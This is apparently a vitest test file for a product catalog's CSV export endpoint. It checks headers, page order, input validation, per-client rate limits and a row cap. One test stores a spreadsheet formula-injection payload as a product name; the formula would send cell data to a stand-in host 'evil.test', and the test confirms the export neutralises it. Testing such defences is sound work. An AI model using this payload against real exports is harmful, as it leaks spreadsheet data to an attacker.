import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { EXPORT_MAX_PER_WINDOW, EXPORT_MAX_ROWS } from "../../../src/lib/export";
import { csvObjects, parseCsv } from "../../csv";
import { api, createUser, expectProblem, type TestUser } from "../../helpers";

type Product = { sku: string; name: string; brand: string; price: number; views: number };

const tag = crypto.randomUUID().slice(0, 8);
const brand = `Brand ${tag}`;
let member: TestUser;

async function listAll(query: string): Promise<Product[]> {
  const items: Product[] = [];
  for (let offset = 0; ; offset += 100) {
    const res = await api(`/products?${query}&limit=100&offset=${offset}`, { token: member.token });
    expect(res.status).toBe(200);
    const page = (await res.json()) as { items: Product[]; total: number };
    items.push(...page.items);
    if (items.length >= page.total) return items;
  }
}

async function exportCsv(query: string, headers: Record<string, string> = {}) {
  const res = await api(`/products/export?${query}`, { headers });
  expect(res.status, await res.clone().text()).toBe(200);
  return { res, text: await res.text() };
}

beforeAll(async () => {
  member = await createUser("member");
  // 1,200 rows of one brand: three pages of the export's 500, with ties on price, views and created_at.
  await env.DB.prepare(
    `INSERT INTO products (sku, name, brand, price_cents, views, created_at, updated_at)
     WITH RECURSIVE k(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM k WHERE i < 1200)
     SELECT lower(hex(randomblob(16))), 'Item ' || (i % 41), ?1, (i % 13) * 250, i % 7, 1000 + (i % 30), 1000 + i FROM k`,
  )
    .bind(brand)
    .run();
});

describe("GET /products/export", () => {
  it("exports the filtered catalog to anyone, prices with two decimals, never from a cache", async () => {
    const query = `brand=${encodeURIComponent(brand)}&min_price=5&max_price=20&ordering=-price`;
    const { res, text } = await exportCsv(query);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    expect(res.headers.get("x-cache")).toBeNull();
    const rows = csvObjects(text);
    const listed = await listAll(query);
    expect(res.headers.get("x-total-count")).toBe(String(listed.length));
    expect(rows.map((r) => r.sku)).toEqual(listed.map((p) => p.sku));
    expect(rows.map((r) => r.price)).toEqual(listed.map((p) => p.price.toFixed(2)));
    expect(rows.some((r) => r.price === "7.50")).toBe(true);
    expect(parseCsv(text)[0]).toEqual(["sku", "name", "brand", "price", "views", "created_at", "updated_at"]);
  });

  it.each(["ordering=price", "ordering=-views", "ordering=name", "ordering=created_at", "ordering=-updated_at"])(
    "walks every page in the list's order without a gap or a repeat (%s)",
    async (ordering) => {
      const query = `brand=${encodeURIComponent(brand)}&${ordering}`;
      const exported = csvObjects((await exportCsv(`${query}&fields=sku`)).text).map((r) => r.sku);
      expect(exported).toHaveLength(1200);
      expect(new Set(exported).size).toBe(1200);
      expect(exported).toEqual((await listAll(query)).map((p) => p.sku));
    },
  );

  it("neutralises a product name that starts like a formula", async () => {
    const admin = await createUser("admin");
    const res = await api("/products", {
      method: "POST",
      token: admin.token,
      json: { name: '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")', brand: `Formula ${tag}`, price: 1 },
    });
    expect(res.status).toBe(201);
    const [row] = csvObjects((await exportCsv(`brand=${encodeURIComponent(`Formula ${tag}`)}`)).text);
    expect(row?.name).toBe('\'=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")');
  });

  it("refuses what the list refuses, and a bad token", async () => {
    for (const query of ["min_price=9&max_price=1", "ordering=cost", "fields=sku,secret", "min_price=1.234"]) {
      await expectProblem(await api(`/products/export?${query}`), 400);
    }
    await expectProblem(await api("/products/export", { token: "not-a-token" }), 401);
  });

  it(`limits strangers per client (${EXPORT_MAX_PER_WINDOW} per window), not the catalog for everyone`, async () => {
    const flood = { "x-client-id": `flood-${tag}` };
    const results = await Promise.all(
      Array.from({ length: EXPORT_MAX_PER_WINDOW + 3 }, () =>
        api(`/products/export?brand=nothing-${tag}`, { headers: flood }),
      ),
    );
    expect(results.filter((r) => r.status === 200)).toHaveLength(EXPORT_MAX_PER_WINDOW);
    const refused = results.filter((r) => r.status === 429);
    expect(refused).toHaveLength(3);
    expect(Number(refused[0]!.headers.get("retry-after"))).toBeGreaterThan(0);
    for (const r of results) await r.body?.cancel();
    expect(
      (await api(`/products/export?brand=nothing-${tag}`, { headers: { "x-client-id": `calm-${tag}` } })).status,
    ).toBe(200);
    expect((await api("/products?limit=1", { headers: flood })).status).toBe(200);
  });
});

describe("GET /products/export: a catalog wider than an export", () => {
  it(`refuses more than ${EXPORT_MAX_ROWS} rows with the list's own total, and counts no export for it`, async () => {
    await env.DB.prepare(
      `INSERT INTO products (sku, name, brand, price_cents, views, created_at, updated_at)
       WITH RECURSIVE k(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM k WHERE i < ?1)
       SELECT lower(hex(randomblob(16))), 'Wide ' || i, ?2, 100, 0, 2000 + i, 2000 + i FROM k`,
    )
      .bind(EXPORT_MAX_ROWS + 1, `Wide ${tag}`)
      .run();
    const client = { "x-client-id": `wide-${tag}` };
    const exportsCounted = async () =>
      await env.DB.prepare(
        "SELECT count(*) AS keys, coalesce(sum(count), 0) AS n FROM rate_limits WHERE key LIKE 'export:%'",
      ).first();
    const before = await exportsCounted();
    const filtered = await expectProblem(
      await api(`/products/export?brand=${encodeURIComponent(`Wide ${tag}`)}`, { headers: client }),
      400,
    );
    expect(filtered).toMatchObject({ total: EXPORT_MAX_ROWS + 1, max_rows: EXPORT_MAX_ROWS });
    // Unfiltered, the total is the list's: the whole catalog, as GET /products counts it.
    const { total } = (await (await api("/products?limit=1", { token: member.token })).json()) as { total: number };
    expect(total).toBeGreaterThan(EXPORT_MAX_ROWS + 1);
    expect(await expectProblem(await api("/products/export", { headers: client }), 400)).toMatchObject({
      total,
      max_rows: EXPORT_MAX_ROWS,
    });
    expect(await exportsCounted()).toEqual(before);
  });
});
